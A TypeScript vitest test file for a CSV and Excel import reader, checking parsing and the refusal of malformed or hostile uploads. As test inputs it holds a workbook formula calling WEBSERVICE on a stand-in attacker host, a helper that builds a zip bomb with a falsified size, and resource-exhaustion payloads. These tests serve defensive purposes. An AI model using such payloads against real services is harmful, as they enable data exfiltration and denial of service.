import { deflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import type { FileTable } from "#app/features/running/table-files/file-table.ts";
import {
  closeReadingPool,
  readFile as readFileOf,
} from "#app/features/front/imports/file/read-file.server.ts";
import { storedZip } from "../../../support/read/stored-zip.ts";
import { AppError } from "#app/platform/errors.ts";
import { workbookOf, workbookWith } from "../../../support/read/xlsx.ts";

const readFile = (bytes: Uint8Array) => readFileOf(bytes, "a business");

afterAll(() => closeReadingPool());

const HEAD = "Name;Ort\r\n";

describe("a CSV file", () => {
  it.each([
    ["semicolons", "Name;Ort\r\nMüller, Anna;Zürich\r\n"],
    ["commas", 'Name,Ort\n"Müller, Anna",Zürich\n'],
    ["tabs", "Name\tOrt\rMüller, Anna\tZürich"],
    ["a byte order mark", "\uFEFFName;Ort\r\nMüller, Anna;Zürich"],
    ["separators within a quoted heading", '"Name";"Ort"\n"Müller, Anna";"Zürich"'],
  ])("is read with %s", async (_, text) => {
    const [table] = await readFile(Buffer.from(text));
    expect(table).toMatchObject({
      headings: ["Name", "Ort"],
      rows: [{ line: 2, cells: ["Müller, Anna", "Zürich"] }],
    });
  });

  it.each([
    ["Windows-1252", Buffer.from("Name;Ort\nM\xfcller \x80;Z\xfcrich", "latin1")],
    [
      "UTF-16",
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Name;Ort\nMüller €;Zürich", "utf16le")]),
    ],
  ])("is read in %s", async (_, bytes) => {
    expect(cells(await readFile(bytes))).toEqual([["Müller €", "Zürich"]]);
  });

  it("counts lines as an editor does, with line ends in cells and empty lines between", async () => {
    const [table] = await readFile(Buffer.from(`${HEAD}"A\r\nB";x\r\n\r\n;;\r\nC;y\r\n"D";z\r\n`));
    expect(table!.rows).toEqual([
      { line: 2, cells: ["A\nB", "x"] },
      { line: 6, cells: ["C", "y"] },
      { line: 7, cells: ["D", "z"] },
    ]);
  });

  it("takes the apostrophe off again that our exports put before what looks like a formula", async () => {
    const read = await readFile(Buffer.from(`${HEAD}'=1+1;''+41\r\n'Ndrangheta;O'Neill\r\n`));
    expect(cells(read)).toEqual([
      ["=1+1", "'+41"],
      ["'Ndrangheta", "O'Neill"],
    ]);
  });

  it("may have rows that are shorter or longer than its headings", async () => {
    expect(cells(await readFile(Buffer.from(`${HEAD}A\r\nB;C;D\r\n`)))).toEqual([
      ["A", "", ""],
      ["B", "C", "D"],
    ]);
  });
});

describe("a workbook", () => {
  it("keeps days as days, numbers as numbers and text as text", async () => {
    const day = new Date("2026-11-02T00:00:00Z");
    const rich = { richText: [{ text: "Mül" }, { text: "ler" }] };
    const link = { text: "a@b.ch", hyperlink: "mailto:a@b.ch" };
    const file = await workbookOf(
      [
        ["A", "B", "C", "D", "E", "F", "G"],
        [day, 1234.5, 0.1 + 0.2, "007", rich, link, 0.081],
        [
          true,
          null,
          { formula: "1+1", result: 2 },
          { formula: "NOW()", result: day },
          { error: "#REF!" },
          "'=1",
          "",
        ],
      ],
      (sheet) => {
        sheet.getCell("G2").numFmt = "0.0%";
        sheet.getCell("D3").numFmt = "dd.mm.yyyy";
      },
    );
    const [table] = await readFile(file);
    expect(table!.name).toBe("Tabelle1");
    expect(table!.rows[0]).toEqual({
      line: 2,
      cells: ["2026-11-02", "1234.5", "0.3", "007", "Müller", "a@b.ch", "8.1"],
    });
    expect(table!.rows[1]!.cells.slice(0, 3)).toEqual(["true", "", "2"]);
    expect(table!.rows[1]!.cells.slice(4)).toEqual(["#REF!", "=1", ""]);
  });

  it("has five sheets that are read, in their order, and no sixth", async () => {
    const workbook = new ExcelJS.Workbook();
    for (const name of ["A", "B", "C", "D", "E", "F"])
      workbook.addWorksheet(name).addRows([["Name"], [name]]);
    const tables = await readFile(Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(tables.map(({ name, rows }) => [name, rows[0]?.cells])).toEqual(
      ["A", "B", "C", "D", "E"].map((name) => [name, [name]]),
    );
  });

  it("does not work formulas out", async () => {
    const file = await workbookOf([
      ["A", "B"],
      [{ formula: 'WEBSERVICE("http://evil.example")' }, "x"],
    ]);
    expect(cells(await readFile(file))).toEqual([["", "x"]]);
  });

  it("holds numbers that are none as text, for the rules to refuse", async () => {
    const cell = (ref: string, value: string) => `<c r="${ref}"><v>${value}</v></c>`;
    const file = workbookWith(
      `<row r="1">${cell("A1", "1")}${cell("B1", "2")}</row><row r="2">${cell("A2", "1e309")}${cell("B2", "x")}</row>`,
    );
    expect(cells(await readFile(file))).toEqual([["Infinity", "NaN"]]);
  });
});

describe("a file that is refused", () => {
  const text = (content: string) => Buffer.from(content);
  const zip = (name: string, content: Buffer) => storedZip([[name, content]]);
  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ["nothing but spaces", () => text(" \r\n \r\n"), "file_empty"],
    ["headings and no rows", () => text(HEAD), "file_empty"],
    ["an empty workbook", () => workbookOf([]), "file_empty"],
    [
      "a picture",
      () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0]),
      "file_unknown",
    ],
    ["text with NUL", () => text(`${HEAD}a\0;b`), "file_unknown"],
    ["a quote that is not closed", () => text(`${HEAD}"a;b`), "file_broken"],
    [
      "an old or encrypted workbook",
      () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0]),
      "file_encrypted",
    ],
    [
      "a workbook that is cut off",
      async () => (await workbookOf([["A"], ["b"]])).subarray(0, 3000),
      "file_broken",
    ],
    ["an archive of something else", () => zip("word/document.xml", text("<x/>")), "file_unknown"],
    ["a workbook that is no XML", () => workbookWith("<row r='1'><c r='A1'"), "file_broken"],
    [
      "a cell at a place that there is not",
      () => workbookWith('<row r="x"><c r="?"><v>1</v></c></row>'),
      "file_broken",
    ],
    [
      "a cell far to the right",
      () => workbookWith('<row r="1"><c r="XFD1"><v>1</v></c></row>'),
      "file_too_many_columns",
    ],
    [
      "a column that there is not",
      () => workbookWith('<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>'),
      "file_broken",
    ],
    ["a quote that is opened and 9 MB long", () => text(`"${"a".repeat(9_000_000)}`), "file_broken"],
    ["nothing but quotes", () => text('"'.repeat(9_000_001)), "file_broken"],
    [
      "100 columns",
      () => text(`${Array.from({ length: 100 }, (_, n) => `c${n}`).join(";")}\n1`),
      "file_too_many_columns",
    ],
    ["a cell of 1,001 characters", () => text(`${HEAD}a;${"x".repeat(1001)}`), "file_cell_too_long"],
    ["5,001 rows", () => text(HEAD + "a;b\n".repeat(5001)), "file_too_many_rows"],
    ["a zip bomb", () => bomb(0), "file_too_large_inside"],
    ["a zip bomb that states another size", () => bomb(100), "file_too_large_inside"],
    [
      "a row of 17,000 empty cells",
      () => workbookWith(`<row>${"<c/>".repeat(17_000)}</row>`),
      "file_too_many_columns",
    ],
    ["200,001 empty rows", () => workbookWith("<row/>".repeat(200_001)), "file_too_many_rows"],
    [
      "millions of empty cells",
      () => workbookWith(`<row>${"<c\n/>".repeat(16_000)}</row>`.repeat(160)),
      "file_too_large_inside",
    ],
    ["millions of tags", () => workbookWith("<x/>".repeat(2_500_001)), "file_too_large_inside"],
    ["an archive with a password", () => flagged(zip("a.csv", text(HEAD))), "file_encrypted"],
    ["an archive with offsets that lead nowhere", () => astray(zip("a.csv", text(HEAD))), "file_broken"],
  ])("is one with %s", async (_, file, code) => {
    const error: unknown = await readFile(await file()).catch((error: unknown) => error);
    expect(error).toBeInstanceOf(AppError);
    expect(error).toMatchObject({
      code: "input.invalid",
      fields: [{ field: "file", code: `import.${code}` }],
    });
  });

  it.each([
    ["in the first line", ";".repeat(9_000_000)],
    ["further down", HEAD + ";".repeat(9_000_000)],
    ["behind a stray quote", `${HEAD}5" pipe${";".repeat(9_000_000)}`],
    ["in every line", HEAD + `${";".repeat(1_800)}\n`.repeat(5_000)],
  ])("refuses millions of empty columns at the first row that has too many: %s", async (_, text) => {
    await expect(readFile(Buffer.from(text))).rejects.toMatchObject({
      fields: [{ field: "file", code: "import.file_too_many_columns", params: { max: 200 } }],
    });
  });

  it("leaves out empty columns at the right, as spreadsheets write them", async () => {
    const read = await readFile(Buffer.from(`Name;Ort${";".repeat(198)}\nA;B${";".repeat(198)}\n`));
    expect(cells(read)).toEqual([["A", "B"]]);
  });

  it("names the row and the column of a cell that is too long", async () => {
    await expect(readFile(text(`${HEAD}a;b\n;${"x".repeat(1001)}`))).rejects.toMatchObject({
      fields: [{ params: { line: 3, column: 2, max: 1000 } }],
    });
  });

  it("a workbook is read whose rows have a format up to the last column", async () => {
    const cell = '<c r="A1" t="inlineStr"><is><t>x</t></is></c>';
    const rest = Array.from({ length: 700 }, (_, at) => `<c r="${columnName(at + 1)}1"/>`).join("");
    const file = workbookWith(`<row r="1">${cell}${rest}</row><row r="2">${cell.replace("A1", "A2")}</row>`);
    expect(cells(await readFile(file))).toEqual([["x"]]);
  });

  it("5,000 rows are taken", async () => {
    expect(cells(await readFile(text(HEAD + "a;b\n".repeat(5000))))).toHaveLength(5000);
  });
});

function cells(tables: FileTable[]): string[][] {
  return tables[0]!.rows.map((row) => row.cells);
}

/** The name of the column with this index, up to ZZ. */
function columnName(index: number): string {
  const letter = (at: number) => String.fromCharCode(65 + at);
  return (index < 26 ? "" : letter(Math.floor(index / 26) - 1)) + letter(index % 26);
}

/** 100 MB of spaces in some 100 kB, as an entry that may claim any size. */
function bomb(stated: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(100_000_000, " "));
  const file = storedZip([["a.csv", packed]]);
  const directory = file.lastIndexOf("PK\x01\x02", undefined, "latin1");
  for (const at of [8, directory + 10]) file.writeUInt16LE(8, at);
  for (const at of [22, directory + 24]) file.writeUInt32LE(stated, at);
  return file;
}

function flagged(file: Buffer): Buffer {
  file.writeUInt16LE(1, file.lastIndexOf("PK\x01\x02", undefined, "latin1") + 8);
  return file;
}

function astray(file: Buffer): Buffer {
  file.writeUInt32LE(0xfffffff0, file.lastIndexOf("PK\x01\x02", undefined, "latin1") + 42);
  return file;
}
